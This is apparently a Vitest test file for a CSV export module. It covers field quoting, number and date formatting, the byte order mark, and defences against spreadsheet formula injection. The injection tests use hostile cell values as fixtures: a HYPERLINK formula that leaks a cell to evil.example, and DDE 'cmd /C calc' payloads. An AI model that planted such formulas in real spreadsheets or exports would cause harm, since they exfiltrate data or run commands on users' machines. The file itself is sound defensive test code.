import { describe, expect, it } from 'vitest'
import { CSV_BOM, csvDate, csvDecimal, csvField, csvRow, neutraliseFormula } from '../../src/lib/csv'

/**
 * Reads CSV text back as RFC 4180 says (quoted fields, doubled quotes, CRLF records): what a
 * spreadsheet app sees in each cell.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let i = 0
  let inQuotes = false
  while (i < text.length) {
    const char = text[i]
    if (inQuotes) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"'
        i += 2
        continue
      }
      if (char === '"') inQuotes = false
      else field += char
      i++
      continue
    }
    if (char === '"') inQuotes = true
    else if (char === ',') {
      record.push(field)
      field = ''
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      i++
    } else field += char
    i++
  }
  expect(field, 'the text ends with CRLF').toBe('')
  return records
}

describe('csvRow', () => {
  it('ends every record with CRLF and leaves plain fields unquoted', () => {
    expect(csvRow(['id', 'name', 'email'])).toBe('id,name,email\r\n')
  })

  it('quotes fields holding a comma, a quote, CR or LF and doubles the quotes', () => {
    const cells = ['Smith, John', 'The "Pro" plan', 'two\nlines', 'carriage\rreturn', 'crlf\r\nend']
    const line = csvRow(cells)
    expect(line).toBe('"Smith, John","The ""Pro"" plan","two\nlines","carriage\rreturn","crlf\r\nend"\r\n')
    expect(parseCsv(line)).toEqual([cells])
  })

  it('writes nothing for null and undefined, and booleans as true/false', () => {
    expect(csvRow([null, undefined, true, false, ''])).toBe(',,true,false,\r\n')
  })

  it('keeps non-Latin text and emoji as they are (the Blob encodes them as UTF-8)', () => {
    expect(csvRow(['Zoë', 'شركة', '株式会社', '🚀'])).toBe('Zoë,شركة,株式会社,🚀\r\n')
  })
})

describe('formula injection (OWASP)', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=cmd|\' /C calc\'!A0',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '   =SUM(A1:A2)',
    '\uFF1D1+1',
  ]

  it.each(hostile)('shows %j as text: a leading quote, the rest unchanged', (value) => {
    const [[cell]] = parseCsv(csvRow([value])) as [[string]]
    expect(cell).toBe(`'${value}`)
  })

  it('neutralises hostile ids and names inside a whole record, keeping every other cell', () => {
    const record = ['custom', '=1+2;id', '@admin, "root"', 'ok@example.com']
    expect(parseCsv(csvRow(record))).toEqual([['custom', "'=1+2;id", '\'@admin, "root"', 'ok@example.com']])
  })

  it('leaves ordinary text alone, including a later = or @', () => {
    expect(neutraliseFormula('a=b')).toBe('a=b')
    expect(neutraliseFormula('person@example.com')).toBe('person@example.com')
    expect(neutraliseFormula('')).toBe('')
  })
})

describe('numbers', () => {
  it('writes money amounts as plain decimals, negative ones included, without a prefix', () => {
    expect(csvRow([csvDecimal('9.99'), csvDecimal('-3.50'), csvDecimal('123456789012.34'), csvDecimal('0')])).toBe(
      '9.99,-3.50,123456789012.34,0\r\n',
    )
  })

  it('treats an amount that is not a plain decimal as text, so a formula in its place is neutralised', () => {
    expect(parseCsv(csvRow([csvDecimal('-1+cmd|\' /C calc\'!A0'), csvDecimal('1,5'), csvDecimal('1e3')]))).toEqual([
      ["'-1+cmd|' /C calc'!A0", '1,5', '1e3'],
    ])
  })

  it('writes JS numbers without grouping or exponents, and nothing for NaN or Infinity', () => {
    expect(csvRow([-40, 1_000_000, 0.5, 1e21, Number.NaN, Number.POSITIVE_INFINITY])).toBe(
      '-40,1000000,0.5,1000000000000000000000,,\r\n',
    )
  })
})

describe('csvDate', () => {
  it('writes ISO-8601 in UTC whatever offset the adapter used', () => {
    expect(csvDate('2026-11-01T10:30:00+01:00')).toBe('2026-11-01T09:30:00.000Z')
    expect(csvDate('2026-11-01T09:30:00.000Z')).toBe('2026-11-01T09:30:00.000Z')
  })

  it('gives no date for null, undefined or empty, and keeps a malformed date as text', () => {
    expect(csvDate(null)).toBeNull()
    expect(csvDate(undefined)).toBeNull()
    expect(csvDate('')).toBeNull()
    expect(csvDate('not a date')).toBe('not a date')
    expect(csvField(csvDate('=1+1'))).toBe("'=1+1")
  })
})

describe('the file', () => {
  it('starts with the UTF-8 byte order mark, which a Blob encodes as EF BB BF', async () => {
    const blob = new Blob([CSV_BOM, csvRow(['name']), csvRow(['Zoë'])], { type: 'text/csv;charset=utf-8' })
    const bytes = new Uint8Array(await blob.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes.slice(3))).toBe('name\r\nZoë\r\n')
  })
})
